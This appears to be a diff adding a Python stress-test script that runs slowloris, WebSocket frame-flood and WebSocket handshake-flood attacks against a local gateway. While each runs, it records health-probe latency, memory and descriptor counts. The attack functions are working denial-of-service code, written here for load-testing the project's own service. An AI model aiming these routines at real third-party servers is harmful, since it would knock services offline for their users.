@@ -1,0 +1,385 @@
+#!/usr/bin/env python3
+"""Unauthenticated attacks on a wasmclaw gateway on 127.0.0.1, each bounded in
+sockets and seconds, and what the gateway held while they ran.
+
+Run through scripts/attack.sh, which builds and starts the gateway. Standard
+library only. Attacks (each from its own loopback source addresses, so the
+per-client cap sees distinct clients):
+
+  slowloris       many sockets sending half a header line, one byte a second
+  ws-frame-flood  WebSocket upgrades that send a few huge text frames before `connect`
+  ws-handshakes   many WebSocket upgrades that never send `connect`
+
+While each runs, /health is probed every 100 ms twice over: on a keep-alive
+connection opened before the attack, and on a new connection each time from an
+address the attack does not use. RSS and open descriptors come from /proc.
+"""
+
+import argparse
+import asyncio
+import base64
+import os
+import resource
+import statistics
+import struct
+import time
+
+PROBE_EVERY = 0.1
+PROBE_TIMEOUT = 2.0
+PROBE_ADDR = "127.0.0.200"
+KEEPALIVE_ADDR = "127.0.0.201"
+
+
+def rss_kib(pid):
+    with open(f"/proc/{pid}/status") as f:
+        for line in f:
+            if line.startswith("VmRSS:"):
+                return int(line.split()[1])
+    return 0
+
+
+def open_fds(pid):
+    try:
+        return len(os.listdir(f"/proc/{pid}/fd"))
+    except OSError:
+        return -1
+
+
+class Sampler:
+    """RSS and descriptor count of the gateway every 50 ms."""
+
+    def __init__(self, pid):
+        self.pid, self.rss, self.fds = pid, [], []
+
+    async def run(self):
+        while True:
+            self.rss.append(rss_kib(self.pid))
+            self.fds.append(open_fds(self.pid))
+            await asyncio.sleep(0.05)
+
+
+async def read_response(reader):
+    head = await reader.readuntil(b"\r\n\r\n")
+    status = int(head.split(b" ", 2)[1])
+    length = 0
+    for line in head.split(b"\r\n"):
+        if line.lower().startswith(b"content-length:"):
+            length = int(line.split(b":", 1)[1])
+    body = await reader.readexactly(length)
+    return status, body
+
+
+async def http_get(host, port, path, token=None, local=None):
+    reader, writer = await asyncio.open_connection(host, port, local_addr=(local, 0) if local else None)
+    try:
+        auth = f"Authorization: Bearer {token}\r\n" if token else ""
+        writer.write(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{auth}Connection: close\r\n\r\n".encode())
+        await writer.drain()
+        return await read_response(reader)
+    finally:
+        writer.close()
+
+
+async def metrics(host, port, token):
+    _, body = await http_get(host, port, "/metrics", token, local=PROBE_ADDR)
+    values = {}
+    for line in body.decode().splitlines():
+        if line.startswith("wasmclaw_connections") or line.startswith("wasmclaw_accept"):
+            name, value = line.rsplit(" ", 1)
+            values[name] = float(value)
+    return values
+
+
+class Prober:
+    """/health latencies (or failures) during an attack."""
+
+    def __init__(self, host, port):
+        self.host, self.port = host, port
+        self.fresh, self.kept = [], []
+        self.kept_writer = None
+
+    async def fresh_loop(self):
+        while True:
+            started = time.monotonic()
+            try:
+                status, _ = await asyncio.wait_for(
+                    http_get(self.host, self.port, "/health", local=PROBE_ADDR), PROBE_TIMEOUT
+                )
+                self.fresh.append(time.monotonic() - started if status == 200 else None)
+            except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
+                self.fresh.append(None)
+            await asyncio.sleep(max(0, PROBE_EVERY - (time.monotonic() - started)))
+
+    async def kept_loop(self):
+        try:
+            await self._kept_loop()
+        finally:
+            if self.kept_writer is not None:
+                self.kept_writer.close()
+
+    async def _kept_loop(self):
+        reader = writer = None
+        while True:
+            started = time.monotonic()
+            try:
+                if writer is None:
+                    reader, writer = await asyncio.open_connection(self.host, self.port, local_addr=(KEEPALIVE_ADDR, 0))
+                    self.kept_writer = writer
+                writer.write(f"GET /health HTTP/1.1\r\nHost: {self.host}\r\n\r\n".encode())
+                await writer.drain()
+                status, _ = await asyncio.wait_for(read_response(reader), PROBE_TIMEOUT)
+                self.kept.append(time.monotonic() - started if status == 200 else None)
+            except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
+                self.kept.append(None)
+                if writer is not None:
+                    writer.close()
+                reader = writer = None
+            await asyncio.sleep(max(0, PROBE_EVERY - (time.monotonic() - started)))
+
+
+def latency(samples):
+    ok = [s * 1000 for s in samples if s is not None]
+    failed = sum(1 for s in samples if s is None)
+    if not ok:
+        return f"{len(samples)} probes, all failed"
+    return f"median {statistics.median(ok):7.1f} ms  max {max(ok):7.1f} ms  failed {failed}/{len(samples)}"
+
+
+async def hold_until_closed(reader, deadline):
+    """Seconds until the gateway closed the socket, or None if it was still open at `deadline`."""
+    started = time.monotonic()
+    try:
+        while True:
+            left = deadline - time.monotonic()
+            if left <= 0:
+                return None
+            data = await asyncio.wait_for(reader.read(65536), left)
+            if not data:
+                return time.monotonic() - started
+    except asyncio.TimeoutError:
+        return None
+    except OSError:
+        return time.monotonic() - started
+
+
+async def slowloris(host, port, n, seconds, addrs):
+    """Half a header line, then one more byte a second; never the end of the head."""
+    deadline = time.monotonic() + seconds
+    outcome = {"connect_failed": 0, "closed_after": [], "still_open": 0}
+
+    async def one(i):
+        try:
+            reader, writer = await asyncio.open_connection(host, port, local_addr=(addrs[i % len(addrs)], 0))
+        except OSError:
+            outcome["connect_failed"] += 1
+            return
+        writer.write(f"GET /health HTTP/1.1\r\nHost: {host}\r\nX-Slow: ".encode())
+
+        async def trickle():
+            while True:
+                await asyncio.sleep(1)
+                writer.write(b"a")
+                await writer.drain()
+
+        dripping = asyncio.create_task(trickle())
+        closed = await hold_until_closed(reader, deadline)
+        dripping.cancel()
+        writer.close()
+        if closed is None:
+            outcome["still_open"] += 1
+        else:
+            outcome["closed_after"].append(closed)
+
+    await asyncio.gather(*(one(i) for i in range(n)), return_exceptions=True)
+    return outcome
+
+
+async def ws_upgrade(host, port, local):
+    """Open a WebSocket; returns (reader, writer) after the 101, or raises."""
+    reader, writer = await asyncio.open_connection(host, port, local_addr=(local, 0))
+    key = base64.b64encode(os.urandom(16)).decode()
+    writer.write(
+        (
+            f"GET / HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+            f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
+        ).encode()
+    )
+    await writer.drain()
+    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
+    if not head.startswith(b"HTTP/1.1 101"):
+        writer.close()
+        raise OSError(f"no upgrade: {head[:40]!r}")
+    return reader, writer
+
+
+def text_frame_header(length):
+    """A masked FIN text frame header with an all-zero mask: the payload goes out as is."""
+    if length < 126:
+        return struct.pack("!BB", 0x81, 0x80 | length) + b"\0\0\0\0"
+    if length < 1 << 16:
+        return struct.pack("!BBH", 0x81, 0x80 | 126, length) + b"\0\0\0\0"
+    return struct.pack("!BBQ", 0x81, 0x80 | 127, length) + b"\0\0\0\0"
+
+
+async def ws_frame_flood(host, port, sockets, frames, frame_bytes, seconds, addrs):
+    """Upgrade, then send `frames` text frames of `frame_bytes` each before any `connect`."""
+    deadline = time.monotonic() + seconds
+    payload = b"x" * frame_bytes
+    header = text_frame_header(frame_bytes)
+    outcome = {"upgrade_failed": 0, "bytes_sent": 0, "closed_after": [], "still_open": 0}
+
+    async def one(i):
+        try:
+            reader, writer = await ws_upgrade(host, port, addrs[i % len(addrs)])
+        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
+            outcome["upgrade_failed"] += 1
+            return
+        started = time.monotonic()
+
+        async def send():
+            for _ in range(frames):
+                writer.write(header)
+                writer.write(payload)
+                await writer.drain()
+                outcome["bytes_sent"] += len(header) + len(payload)
+
+        sending = asyncio.create_task(send())
+        closed = await hold_until_closed(reader, deadline)
+        sending.cancel()
+        writer.close()
+        if closed is None:
+            outcome["still_open"] += 1
+        else:
+            outcome["closed_after"].append(time.monotonic() - started)
+
+    await asyncio.gather(*(one(i) for i in range(sockets)), return_exceptions=True)
+    return outcome
+
+
+async def ws_handshakes(host, port, n, seconds, addrs):
+    """Upgrades that never send `connect`; held until the gateway closes them or time is up."""
+    deadline = time.monotonic() + seconds
+    outcome = {"upgrade_failed": 0, "closed_after": [], "still_open": 0}
+
+    async def one(i):
+        try:
+            reader, writer = await ws_upgrade(host, port, addrs[i % len(addrs)])
+        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
+            outcome["upgrade_failed"] += 1
+            return
+        closed = await hold_until_closed(reader, deadline)
+        writer.close()
+        if closed is None:
+            outcome["still_open"] += 1
+        else:
+            outcome["closed_after"].append(closed)
+
+    await asyncio.gather(*(one(i) for i in range(n)), return_exceptions=True)
+    return outcome
+
+
+def describe(outcome):
+    parts = []
+    for key, value in outcome.items():
+        if key == "closed_after":
+            at_once = [v for v in value if v < 0.5]
+            later = [v for v in value if v >= 0.5]
+            parts.append(f"closed by the gateway at once (< 0.5 s): {len(at_once)}")
+            if later:
+                parts.append(
+                    f"closed by the gateway later: {len(later)} (median {statistics.median(later):.2f} s, "
+                    f"max {max(later):.2f} s)"
+                )
+            else:
+                parts.append("closed by the gateway later: 0")
+        elif key == "bytes_sent":
+            parts.append(f"sent {value / (1 << 20):.0f} MiB")
+        else:
+            parts.append(f"{key.replace('_', ' ')}: {value}")
+    return "; ".join(parts)
+
+
+async def run_attack(args, pid, name, attack):
+    host, port = "127.0.0.1", args.port
+    before_metrics = await metrics(host, port, args.token)
+    before_rss, before_fds = rss_kib(pid), open_fds(pid)
+    sampler, prober = Sampler(pid), Prober(host, port)
+    helpers = [asyncio.create_task(t) for t in (sampler.run(), prober.fresh_loop(), prober.kept_loop())]
+    await asyncio.sleep(0.5)  # a few probes before the attack starts
+    started = time.monotonic()
+    outcome = await attack
+    took = time.monotonic() - started
+    for t in helpers:
+        t.cancel()
+    await asyncio.gather(*helpers, return_exceptions=True)
+    await asyncio.sleep(args.settle)
+    after_metrics = await metrics(host, port, args.token)
+    after_rss, after_fds = rss_kib(pid), open_fds(pid)
+
+    print(f"\n== {name} ({took:.1f} s)")
+    print(f"  attacker:  {describe(outcome)}")
+    print(f"  /health, kept-alive connection:  {latency(prober.kept)}")
+    print(f"  /health, new connection each:    {latency(prober.fresh)}")
+    print(
+        f"  gateway RSS: before {before_rss / 1024:.1f} MiB, peak {max(sampler.rss) / 1024:.1f} MiB, "
+        f"after (+{args.settle:.0f} s) {after_rss / 1024:.1f} MiB"
+    )
+    print(f"  gateway fds: before {before_fds}, peak {max(sampler.fds)}, after {after_fds}")
+    for key in sorted(after_metrics):
+        delta = after_metrics[key] - before_metrics.get(key, 0)
+        if "_total" in key and delta:
+            print(f"  {key} +{delta:.0f}")
+    print(
+        f"  open connections now: {after_metrics.get('wasmclaw_connections_open', -1):.0f} "
+        f"(max {after_metrics.get('wasmclaw_connections_max', -1):.0f}, "
+        f"per client {after_metrics.get('wasmclaw_connections_max_per_client', -1):.0f})"
+    )
+
+
+async def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--port", type=int, required=True)
+    parser.add_argument("--pid", type=int, required=True)
+    parser.add_argument("--token", required=True)
+    parser.add_argument("--sockets", type=int, default=1500, help="slowloris and handshake-flood sockets")
+    parser.add_argument("--seconds", type=float, default=15, help="longest any one attack runs")
+    parser.add_argument("--ws-sockets", type=int, default=16, help="frame-flood sockets")
+    parser.add_argument("--ws-frames", type=int, default=3, help="frames per frame-flood socket")
+    parser.add_argument("--ws-frame-mib", type=int, default=32, help="size of each flood frame")
+    parser.add_argument("--settle", type=float, default=3, help="pause before the 'after' figures")
+    parser.add_argument("--only", action="append", help="run only these attacks")
+    args = parser.parse_args()
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    wanted = lambda name: not args.only or name in args.only  # noqa: E731
+    one_client = ["127.0.0.10"]
+    four_clients = [f"127.0.0.{i}" for i in range(20, 24)]
+    host, port = "127.0.0.1", args.port
+    if wanted("slowloris"):
+        await run_attack(
+            args,
+            args.pid,
+            f"slowloris: {args.sockets} sockets from one address, half a header line, a byte a second",
+            slowloris(host, port, args.sockets, args.seconds, one_client),
+        )
+    if wanted("ws-frame-flood"):
+        await run_attack(
+            args,
+            args.pid,
+            f"WebSocket frame flood before connect: {args.ws_sockets} sockets x {args.ws_frames} "
+            f"text frames of {args.ws_frame_mib} MiB",
+            ws_frame_flood(
+                host, port, args.ws_sockets, args.ws_frames, args.ws_frame_mib << 20, args.seconds, four_clients
+            ),
+        )
+    if wanted("ws-handshakes"):
+        await run_attack(
+            args,
+            args.pid,
+            f"WebSocket handshake flood: {args.sockets} upgrades from four addresses, never a connect",
+            ws_handshakes(host, port, args.sockets, args.seconds, four_clients),
+        )
+
+
+if __name__ == "__main__":
+    asyncio.run(main())
